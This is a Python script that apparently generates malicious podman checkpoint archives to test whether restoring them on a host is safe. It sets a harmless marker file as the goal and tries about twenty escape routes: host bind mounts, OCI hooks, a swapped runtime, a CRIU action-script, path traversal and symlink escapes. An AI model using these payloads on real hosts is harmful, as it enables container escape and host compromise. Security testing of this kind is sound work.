"""Make a podman checkpoint archive that wants something of the host it is restored on: evil.py GOOD EVIL CASE.

Whatever succeeds leaves a mark: it makes /srv/share/owned, or removes /srv/share/kept.
"""

import io
import json
import sys
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

Json = dict[str, Any]
Members = dict[str, bytes]

MARK = "/srv/share/owned"
TOUCH = {"path": "/bin/touch", "args": ["touch", MARK]}
HOOKS = {each: [TOUCH] for each in ("prestart", "createRuntime", "poststart", "poststop")}


def tree(*entries: tuple[str, str]) -> bytes:
    """A tar archive of symlinks (NAME, "-> TEXT") and files (NAME, CONTENT)."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for name, content in entries:
            info = tarfile.TarInfo(name)
            if content.startswith("-> "):
                info.type, info.linkname = tarfile.SYMTYPE, content.removeprefix("-> ")
                tar.addfile(info)
            else:
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content.encode()))
    return out.getvalue()


def in_spec(change: Callable[[Json], object]) -> Callable[[Members], None]:
    return _in_json("spec.dump", change)


def in_config(change: Callable[[Json], object]) -> Callable[[Members], None]:
    return _in_json("config.dump", change)


def _in_json(name: str, change: Callable[[Json], object]) -> Callable[[Members], None]:
    def work(members: Members) -> None:
        value = json.loads(members[name])
        change(value)
        members[name] = json.dumps(value).encode()

    return work


def added(name: str, data: bytes) -> Callable[[Members], None]:
    return lambda members: members.update({name: data})


def renamed_volume(members: Members) -> None:
    name = "../../../../../../srv/share/owned"
    in_config(lambda config: config["namedVolumes"][0].update(volumeName=name))(members)
    members[f"volumes/{name}.tar"] = members.pop("volumes/data.tar")


def bind(source: str) -> Json:
    return {"destination": "/mnt", "type": "bind", "source": source, "options": ["bind", "rw"]}


CASES: dict[str, Callable[[Members], None]] = {
    "a mount of the host": in_spec(lambda spec: spec["mounts"].append(bind("/srv/share"))),
    "a mount behind a volume": in_spec(lambda spec: spec["mounts"].append(bind("/x/volumes/data/_data/../../../etc"))),
    "hooks": in_spec(lambda spec: spec.update(hooks=HOOKS)),
    "hooks as Go reads them": in_spec(lambda spec: spec.update(Hooks=HOOKS)),
    "hooks of the configuration": in_config(lambda config: config.update(spec={"hooks": HOOKS})),
    "an exit command": in_config(lambda config: config.update(exitCommand=["/bin/touch", MARK])),
    "a pid file": in_config(lambda config: config.update(conmonPidFile=MARK, pid_file=MARK)),
    "a log": in_config(lambda config: config.update(logPath=MARK)),
    "a directory": in_config(lambda config: config.update(staticDir="/srv/share/owned")),
    "a runtime": in_config(lambda config: config.update(runtime="/srv/share/evil")),
    "a name": in_config(lambda config: config.update(name="../../../../srv/share/owned")),
    "a volume": renamed_volume,
    "a symlink": added("rootfs-diff.tar", tree(("way", "-> /srv/share"), ("way/owned", "x"))),
    "a relative symlink": added("rootfs-diff.tar", tree(("way", f"-> {'../' * 20}srv/share"), ("way/owned", "x"))),
    "a symlink in a volume": added("volumes/data.tar", tree(("way", "-> /srv/share"), ("way/owned", "x"))),
    "a symlink in /dev/shm": added("devshm-checkpoint.tar", tree(("way", "-> /srv/share"), ("way/owned", "x"))),
    "a way up": added("rootfs-diff.tar", tree((f"{'../' * 20}srv/share/owned", "x"))),
    "a deleted file": added("deleted.files", json.dumps([f"{'../' * 20}srv/share/kept"]).encode()),
    "a member outside": added("../../../../../../../../srv/share/owned", b"x"),
    "a CRIU configuration": in_spec(lambda spec: spec["annotations"].update({"org.criu.config": "/srv/share/criu"})),
}


def main(good: Path, evil: Path, case: str) -> None:
    Path("/srv/share/kept").touch()
    Path("/srv/share/criu").write_text(f"action-script /bin/touch {MARK}\n")
    Path("/srv/share/evil").write_text(f"#!/bin/sh\ntouch {MARK}\n")
    Path("/srv/share/evil").chmod(0o755)
    with tarfile.open(good) as tar:
        names = [member.name for member in tar if member.isfile()]
        members = {name: file.read() for name in names if (file := tar.extractfile(name))}
    CASES[case](members)
    with tarfile.open(evil, "w") as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), 0o600
            tar.addfile(info, io.BytesIO(data))


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]), sys.argv[3])
